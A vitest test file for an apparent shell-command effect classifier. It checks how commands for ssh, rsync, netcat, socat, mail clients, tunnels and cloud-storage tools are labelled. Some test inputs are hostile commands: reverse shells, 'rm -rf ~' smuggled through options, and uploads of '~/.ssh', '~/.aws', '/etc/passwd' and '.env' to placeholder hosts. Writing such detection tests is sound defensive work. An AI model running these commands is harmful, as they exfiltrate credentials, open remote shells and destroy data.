import { describe } from "vitest";
import { effectsOf } from "../../support/effects.ts";

describe("ssh", () => {
  effectsOf("ssh", {
    "ssh -T git@github.com": ["connect ssh://git@github.com fetch checked"],
    "ssh h uptime": ["connect ssh://h fetch checked", "runs shell on ssh h: uptime"],
    "ssh -p 22 -i ~/.ssh/k dev@h 'rm -rf /srv' && x": [
      "connect ssh://dev@h fetch checked",
      "runs shell on ssh dev@h: rm -rf /srv && x",
    ],
    "ssh ssh://dev@h:22/ ls": ["connect ssh://dev@h:22/ fetch checked", "runs shell on ssh dev@h:22: ls"],
    "ssh -o ProxyCommand='rm -rf ~' h": [
      'run "rm -rf ~" option',
      "runs shell: rm -rf ~",
      "connect ssh://h fetch checked",
    ],
    "ssh -oLocalCommand=/tmp/x h": ["run /tmp/x option", "runs shell: /tmp/x", "connect ssh://h fetch checked"],
    "ssh -o 'Match=host h exec \"rm -rf ~\"' h": [
      'run "rm -rf ~" option',
      "runs shell: rm -rf ~",
      "connect ssh://h fetch checked",
    ],
    "ssh -o Match=all h": ["connect ssh://h fetch checked"],
    "ssh -o StrictHostKeyChecking=no -o ProxyCommand=none h": ["connect ssh://h fetch checked"],
    "ssh -F /tmp/cfg h": ["run /tmp/cfg outside", "runs ssh-config file: /tmp/cfg", "connect ssh://h fetch checked"],
    "ssh -F ~/.ssh/work h": ["runs ssh-config file: ~/.ssh/work", "connect ssh://h fetch checked"],
    "ssh -F /dev/null h": ["connect ssh://h fetch checked"],
    "ssh -F none h": ["connect ssh://h fetch checked"],
    "ssh -L 1:a:2 h": ["connect ssh://h tunnel checked", "connect ssh://h fetch checked"],
    "ssh -NR 80:localhost:3000 h": ["connect ssh://h tunnel checked", "connect ssh://h fetch checked"],
    "ssh -D 1080 -E log h": ["connect ssh://h tunnel checked", "write log append", "connect ssh://h fetch checked"],
    "ssh -o LocalForward=1 h": ["connect ssh://localhost tunnel checked", "connect ssh://h fetch checked"],
    "ssh -G h": [],
    "ssh -V": [],
    "ssh -O exit h": [],
    'ssh "$H" ls': ["connect ssh://$H fetch sends[H name] checked", "runs shell on ssh $H: ls"],
    "ssh -Q cipher": [],
  });
  effectsOf("mosh", {
    "mosh --ssh=/tmp/x h": ["run /tmp/x option", "runs shell: /tmp/x", "connect ssh://h fetch checked"],
  });
  effectsOf("sshpass", {
    "sshpass -p x ssh h ls": ["runs: ssh h ls"],
    "sshpass -f f ssh h": ["read f", "runs: ssh h"],
  });
  effectsOf("ssh-copy-id", {
    "ssh-copy-id -i k.pub dev@h": ["runs shell on ssh dev@h: cat >> ~/.ssh/authorized_keys"],
    "ssh-copy-id -n h": [],
  });
  effectsOf("ssh-keyscan", {
    "ssh-keyscan -t ed25519 h": ["connect ssh://h fetch checked"],
    "ssh-keyscan -f hosts": ["read hosts"],
  });
});

describe("copies between machines", () => {
  effectsOf("scp", {
    "scp dist/app.tgz dev@localhost:/tmp/": ["connect ssh://dev@localhost change sends[dist/app.tgz body] checked"],
    "scp -r hh:/etc .": ["connect ssh://hh fetch checked", "write . replace from[fetched ssh://hh]"],
    "scp -3 a:x b:y": ["connect ssh://a fetch checked", "connect ssh://b change sends[a:x body] checked"],
    "scp a b": ["read a recursive", "write b replace"],
    "scp ./a:b c": ["read ./a:b recursive", "write c replace"],
    "scp -S /tmp/x.sh a h:": [
      "run /tmp/x.sh option",
      "runs shell: /tmp/x.sh",
      "connect ssh://h change sends[a body] checked",
    ],
    "scp -o ProxyCommand=/tmp/x a h:": [
      "run /tmp/x option",
      "runs shell: /tmp/x",
      "connect ssh://h change sends[a body] checked",
    ],
    "scp scp://h/x .": ["connect scp://h/x fetch checked", "write . replace from[fetched scp://h/x]"],
  });
  effectsOf("sftp", {
    "sftp h": ["connect ssh://h fetch checked"],
    "sftp hh:/x .": ["connect ssh://hh fetch checked", "write . replace from[fetched ssh://hh]"],
    "sftp -b batch h": ["read batch", "connect ssh://h fetch checked", "connect ssh://h change checked"],
    "sftp -S /tmp/x h": ["run /tmp/x option", "runs shell: /tmp/x", "connect ssh://h fetch checked"],
    "sftp -o ProxyCommand=/tmp/x h": ["run /tmp/x option", "runs shell: /tmp/x", "connect ssh://h fetch checked"],
  });
  effectsOf("lftp", {
    "lftp -e 'mirror -R ~/.ssh /in; quit' ftp.x.net": [
      "connect ftp.x.net change sends[$HOME/.ssh body] checked",
      "connect ftp://ftp.x.net fetch checked",
    ],
    "lftp ftp.x.example": ["connect ftp://ftp.x.example fetch checked"],
    "lftp -c 'put .env; rm -r old' ftp://x.example": [
      "connect ftp://x.example change sends[.env body] checked",
      "runs on ssh ftp://x.example: rm -r old",
      "connect ftp://x.example fetch checked",
    ],
    "lftp -e 'mirror -R dist' x.example": [
      "connect x.example change sends[dist body] checked",
      "connect ftp://x.example fetch checked",
    ],
    "lftp -e 'mirror pub' x.example": [
      "write . replace from[fetched x.example]",
      "connect ftp://x.example fetch checked",
    ],
    "lftp -c '!id' x.example": ["runs shell: id", "connect ftp://x.example fetch checked"],
    "lftp -f script": ["read script"],
  });
  effectsOf("rsync", {
    "rsync -av a/ b/": ["read a/ recursive", "write b/ replace"],
    "rsync -av --delete a/ b/": ["read a/ recursive", "mirror a/ b/"],
    "rsync -avn --delete a/ b/": [],
    "rsync --list-only h:x": [],
    "rsync -a ~/.aws ~/.config me@x.example:/in/": [
      "connect ssh://me@x.example change sends[~/.aws body, ~/.config body] checked",
    ],
    "rsync -av --delete build/ root@d.example:/": [
      "connect ssh://root@d.example change sends[build/ body] checked",
      "runs on ssh root@d.example: rsync --server --delete . /",
    ],
    "rsync --server --delete . /srv/app": ["mirror . /srv/app"],
    "rsync --server --sender . /srv/app": [],
    "rsync -a hh:/x/ x/": ["connect ssh://hh fetch checked", "write x/ replace from[fetched ssh://hh]"],
    "rsync -a --del hh:/x/ x/": ["connect ssh://hh fetch checked", "mirror hh:/x/ x/"],
    "rsync h::mod": ["connect ssh://h fetch checked"],
    "rsync -a rsync://h/mod .": ["connect rsync://h/mod fetch checked", "write . replace from[fetched rsync://h/mod]"],
    "rsync -e 'ssh -p 2222' a h:b": ["runs shell: ssh -p 2222", "connect ssh://h change sends[a body] checked"],
    "rsync -e 'sh -c \"rm -rf ~\"' a: b": [
      'run "sh -c \\"rm -rf ~\\"" option',
      'runs shell: sh -c "rm -rf ~"',
      "connect ssh://a fetch checked",
      "write b replace from[fetched ssh://a]",
    ],
    "rsync --rsync-path='sudo rsync' a h:b": ["connect ssh://h change sends[a body] checked"],
    "rsync --rsync-path='rm x; rsync' a h:b": [
      'run "rm x; rsync" option',
      "runs shell: rm x; rsync",
      "connect ssh://h change sends[a body] checked",
    ],
    "rsync -a --remove-source-files a b": ["read a recursive", "write b replace", "delete a recursive"],
    "rsync --files-from=l --exclude-from x --log-file=log a b": [
      "read l",
      "read x",
      "write log append",
      "read a recursive",
      "write b replace",
    ],
    "rsync --read-batch=x b": ["read x"],
    "rsync --daemon": ["connect rsync://0.0.0.0 listen checked"],
  });
});

describe("raw connections", () => {
  effectsOf("nc", {
    "nc -zv h 5432": ["connect tcp://h:5432 fetch checked"],
    "nc h 80": ["connect tcp://h:80 fetch checked"],
    "nc -u h 53": ["connect udp://h:53 fetch checked"],
    "nc -lvp 4444": ["connect tcp://0.0.0.0:4444 listen checked"],
    "nc -l 4444": ["connect tcp://0.0.0.0:4444 listen checked"],
    "nc -e /bin/sh h 4444": ["connect tcp://h:4444 shell checked", "runs shell: /bin/sh"],
    "nc -lp 4444 -e /bin/sh": ["connect tcp://0.0.0.0:4444 shell checked", "runs shell: /bin/sh"],
    "nc -c 'rm x' h 1": ["connect tcp://h:1 shell checked", "runs shell: rm x"],
    "nc -x p.example:1 h 1": ["connect tcp://h:1 fetch checked", "connect p.example:1 fetch checked"],
    'nc "$H" 80': ["connect tcp://$H:80 fetch sends[H name] checked"],
  });
  effectsOf("ncat", {
    "ncat --sh-exec id h 1": ["connect tcp://h:1 shell checked", "runs shell: id"],
    "ncat --lua-exec x.lua -l 1": ["connect tcp://0.0.0.0:1 shell checked", "runs shell: x.lua"],
    "ncat -o dump --ssl-cert c h 1": ["write dump replace", "read c", "connect tcp://h:1 fetch checked"],
  });
  effectsOf("telnet", { "telnet h 80": ["connect telnet://h:80 fetch checked"] });
  effectsOf("socat", {
    "socat - TCP:h:80": ["connect tcp://h:80 fetch checked"],
    "socat TCP:h:4444 EXEC:/bin/sh,pty": ["connect tcp://h:4444 shell checked", "runs shell: /bin/sh"],
    "socat TCP-LISTEN:80,fork SYSTEM:id": ["connect tcp://0.0.0.0:80 shell checked", "runs shell: id"],
    "socat TCP-LISTEN:80,fork TCP:h:80": [
      "connect tcp://0.0.0.0:80 tunnel checked",
      "connect tcp://h:80 tunnel checked",
    ],
    "socat FILE:/etc/passwd TCP:h:80": ["connect tcp://h:80 change sends[/etc/passwd body] checked"],
    "socat - UNIX-CONNECT:/var/run/docker.sock": ["read /var/run/docker.sock"],
    "socat -u FILE:a -": ["read a shows"],
    "socat -r dump - TCP:h:1": ["write dump append", "connect tcp://h:1 fetch checked"],
  });
  effectsOf("wscat", {
    "wscat -c wss://x.example": ["connect wss://x.example fetch checked"],
    "wscat -nc wss://x.example -x '{}'": ["connect wss://x.example change"],
    'wscat -c wss://x.example -H "Authorization: $T"': ["connect wss://x.example fetch sends[T auth] checked"],
    "wscat -l 8080": ["connect ws://0.0.0.0 listen checked"],
  });
  effectsOf("websocat", {
    "websocat --exec id ws://x.example": ["runs shell: id", "connect ws://x.example fetch checked"],
  });
  effectsOf("grpcurl", {
    "grpcurl -plaintext localhost:50051 list": ["connect grpc://localhost:50051 fetch checked"],
    "grpcurl -d '{}' h:443 s/M": ["connect grpc://h:443 change checked"],
    'grpcurl -insecure -H "authorization: $T" h:443 s/M': ["connect grpc://h:443 change sends[T auth]"],
    "grpcurl -protoset-out=o h:443 describe": ["write o replace", "connect grpc://h:443 fetch checked"],
  });
});

describe("look-ups, probes, scans", () => {
  effectsOf("dig", {
    "dig +short example.com MX": ["connect dns://example.com fetch checked"],
    "dig @1.1.1.1 example.com": ["connect dns://1.1.1.1 fetch checked", "connect dns://example.com fetch checked"],
    'dig "$X.x.example"': ["connect dns://$X.x.example fetch sends[X name] checked"],
    "dig -x 1.1.1.1": ["connect dns://1.1.1.1 fetch checked"],
    "dig -f names": ["read names"],
    "dig -p 53 -t MX example.com": ["connect dns://example.com fetch checked"],
  });
  effectsOf("nslookup", {
    "nslookup -type=TXT example.com 1.1.1.1": [
      "connect dns://example.com fetch checked",
      "connect dns://1.1.1.1 fetch checked",
    ],
  });
  effectsOf("host", { "host -t MX example.com": ["connect dns://example.com fetch checked"] });
  effectsOf("resolvectl", {
    "resolvectl query example.com": ["connect dns://example.com fetch checked"],
    "resolvectl status": [],
  });
  effectsOf("whois", { "whois example.com": ["connect whois://example.com fetch checked"] });
  effectsOf("fping", {
    "fping -f hosts": ["read hosts shows"],
    "fping -c 3 h.example": ["connect icmp://h.example fetch checked"],
  });
  effectsOf("ping", { "ping -c 3 example.com": ["connect icmp://example.com fetch checked"] });
  effectsOf("traceroute", { "traceroute -n example.com": ["connect icmp://example.com fetch checked"] });
  effectsOf("nmap", {
    "nmap -sV -p 1-100 h": ["connect h fetch checked"],
    "nmap --script=/tmp/x.nse h": ["run /tmp/x.nse loader", "connect h fetch checked"],
    "nmap --script=vuln -iL t -oN o h": ["read t", "write o replace", "connect h change checked"],
    "nmap --script=http-brute h": ["connect h change checked"],
    "nmap --script ssl-enum-ciphers -p 443 h": ["connect h fetch checked"],
    "nmap -p- 10.0.0.0/8": ["connect 10.0.0.0/8 change checked"],
    "nmap 192.168.1.1-50": ["connect 192.168.1.1-50 change checked"],
    "nmap -sn 192.168.1.0/30": ["connect 192.168.1.0/30 fetch checked"],
    "nmap -iR 100": ["connect 0.0.0.0/0 change checked"],
    "nmap -p- localhost": ["connect localhost fetch checked"],
    "nmap my-host-1.example": ["connect my-host-1.example fetch checked"],
  });
});

describe("mail", () => {
  effectsOf("mail", {
    "mail -s hi a@x.example": ["connect a@x.example change checked"],
    "mail root": [],
    'mail -s "$X" a@x.example,b@y.example': [
      "connect a@x.example change sends[X body] checked",
      "connect b@y.example change sends[X body] checked",
    ],
    "mail -a .env -c b@y.example a@x.example": [
      "connect a@x.example change sends[.env body] checked",
      "connect b@y.example change sends[.env body] checked",
    ],
    "mail -q body a@x.example": ["connect a@x.example change sends[body body] checked"],
    "mail -S sendmail=/tmp/x a@x.example": [
      "run /tmp/x option",
      "runs shell: /tmp/x",
      "connect a@x.example change checked",
    ],
    "mail -f": [],
  });
  effectsOf("sendmail", {
    "sendmail a@x.example": ["connect a@x.example change checked"],
    "sendmail -i -f me a@x.example": ["connect a@x.example change checked"],
    "sendmail -t": ['connect "" change checked'],
    "sendmail -C conf a@x.example": ["read conf", "connect a@x.example change checked"],
  });
  effectsOf("msmtp", {
    "msmtp --passwordeval='cat x' a@x.example": [
      'run "cat x" option',
      "runs shell: cat x",
      "connect a@x.example change checked",
    ],
  });
  effectsOf("mutt", {
    "mutt -s hi -a .env -- a@x.example": ["connect a@x.example change sends[.env body] checked"],
    "mutt -i body a@x.example": ["connect a@x.example change sends[body body] checked"],
    "mutt -e 'set sendmail=/tmp/x' a@x.example": [
      "run /tmp/x option",
      "runs shell: /tmp/x",
      "connect a@x.example change checked",
    ],
    "mutt -c b@y.example a@x.example": ["connect a@x.example change checked", "connect b@y.example change checked"],
    "mutt -F rc": ["read rc"],
  });
  effectsOf("swaks", {
    "swaks --to a@x.example --attach a.pdf": ["connect a@x.example change sends[a.pdf body] checked"],
    "swaks --to a@x.example --attach @a.pdf": ["connect a@x.example change sends[a.pdf body] checked"],
    "swaks --to a@x.example --body @.env": ["connect a@x.example change sends[.env body] checked"],
  });
});

describe("tunnels and servers", () => {
  effectsOf("ngrok", {
    "ngrok http 3000": ["connect https://ngrok.com tunnel checked"],
    "ngrok config check": [],
    "ngrok --config=c version": ["read c"],
  });
  effectsOf("cloudflared", {
    "cloudflared tunnel --url http://localhost:3000": ["connect https://trycloudflare.com tunnel checked"],
    "cloudflared tunnel run x": ["connect https://trycloudflare.com tunnel checked"],
    "cloudflared tunnel list": [],
    "cloudflared access ssh --hostname x.example": ["connect https://x.example tunnel checked"],
  });
  effectsOf("lt", { "lt --port 3000": ["connect https://loca.lt tunnel checked"] });
  effectsOf("bore", {
    "bore local 3000 --to bore.example": ["connect https://bore.pub tunnel checked"],
    "bore server": ["connect tcp://0.0.0.0 listen checked"],
  });
  effectsOf("chisel", {
    "chisel client x.example:80 R:1": ["connect x.example:80 tunnel checked"],
    "chisel -c conf x.example": ["read conf", "connect x.example tunnel checked"],
  });
  effectsOf("devtunnel", {
    "devtunnel host -p 3000": ["connect https://devtunnels.ms tunnel checked"],
    "devtunnel list": [],
  });
  effectsOf("http-server", {
    "http-server": ["connect http://0.0.0.0 listen sends[. body] checked"],
    "http-server ~ -p 80": ["connect http://0.0.0.0 listen sends[~ body] checked"],
    "http-server dist -a 127.0.0.1": ["connect http://127.0.0.1 listen sends[dist body] checked"],
  });
  effectsOf("caddy", {
    "caddy file-server --root ~": ["connect http://0.0.0.0 listen sends[~ body] checked"],
    "caddy file-server --listen localhost:80": ["connect http://localhost:80 listen sends[. body] checked"],
    "caddy reverse-proxy --to :3000": ["connect http://0.0.0.0 listen checked"],
    "caddy run --config c": ["read c", "connect http://0.0.0.0 listen checked"],
    "caddy validate": [],
  });
  effectsOf("tailscale", {
    "tailscale status": [],
    "tailscale funnel 3000": ["connect https://ts.net tunnel checked"],
    "tailscale funnel status": [],
    "tailscale ssh h ls": ["runs: ssh h ls"],
    "tailscale file cp .env h:": ["connect https://h: change sends[.env body] checked"],
    "tailscale file get d": ["write d create from[fetched https://ts.net]"],
    "tailscale nc h 22": ["connect tcp://h:22 fetch checked"],
  });
});

describe("stores", () => {
  effectsOf("rclone", {
    "rclone copyto a :sftp,host=h.example:k": ["connect sftp://h.example change sends[a body] checked"],
    "rclone copy a :s3,provider=AWS:b": ["connect :s3,provider=AWS:b change sends[a body] checked"],
    "rclone copy :http,url=h.example:x a": [
      "connect http://h.example fetch checked",
      "write a replace from[fetched http://h.example]",
    ],
    "rclone ls r:": [],
    "rclone copy dist rem:b": ["connect rem:b change sends[dist body] checked"],
    "rclone copy rem:b dist": ["connect rem:b fetch checked", "write dist replace from[fetched rem:b]"],
    "rclone copy a b": ["read a recursive", "write b replace"],
    "rclone sync dist rem:b": [
      "connect rem:b change sends[dist body] checked",
      "mutate storage sync bucket rem:b destroys hosted",
    ],
    "rclone sync rem:b dist": ["connect rem:b fetch checked", "mirror rem:b dist"],
    "rclone sync -n dist rem:b": [],
    "rclone move a rem:b": ["connect rem:b change sends[a body] checked", "delete a recursive"],
    "rclone purge rem:b": ["mutate storage delete bucket rem:b destroys hosted"],
    "rclone deletefile rem:b/x": ["mutate storage delete object rem:b/x destroys hosted"],
    "rclone delete a": ["delete a recursive"],
    "rclone rcat rem:b/x": ["connect rem:b/x change checked"],
    "rclone copyurl https://x.example/a rem:b": ["connect https://x.example/a fetch checked"],
    "rclone serve http ~": ["connect http://0.0.0.0 listen sends[~ body] checked"],
    "rclone config show": ["reveal what(rclone config credential body)"],
    "rclone config file": [],
    "rclone link rem:b/x": ["mutate storage expose object rem:b/x hosted"],
    "rclone cat a": ["read a shows"],
    "rclone --config c ls rem:": ["read c"],
    "rclone --password-command 'id' ls rem:": ["runs shell: id"],
  });
  effectsOf("s3cmd", {
    "s3cmd ls": [],
    "s3cmd put a s3://b/a": ["connect s3://b/a change sends[a body] checked"],
    "s3cmd put -P a s3://b/a": ["mutate storage expose object hosted", "connect s3://b/a change sends[a body] checked"],
    "s3cmd get s3://b/a a": ["connect s3://b/a fetch checked", "write a replace from[fetched s3://b/a]"],
    "s3cmd sync a s3://b": ["connect s3://b change sends[a body] checked"],
    "s3cmd sync --delete-removed a s3://b": [
      "connect s3://b change sends[a body] checked",
      "mutate storage sync bucket s3://b destroys hosted",
    ],
    "s3cmd del s3://b/x": ["mutate storage delete object s3://b/x destroys hosted"],
    "s3cmd rb s3://b": ["mutate storage delete bucket s3://b destroys hosted"],
    "s3cmd del -n s3://b/x": [],
    "s3cmd setacl -P s3://b": ["mutate storage expose bucket hosted"],
    "s3cmd setpolicy p s3://b": ["mutate storage change bucket s3://b hosted"],
  });
  effectsOf("croc", {
    "croc send .env": ["connect https://croc change sends[.env body] checked"],
    "croc receive": [],
  });
});
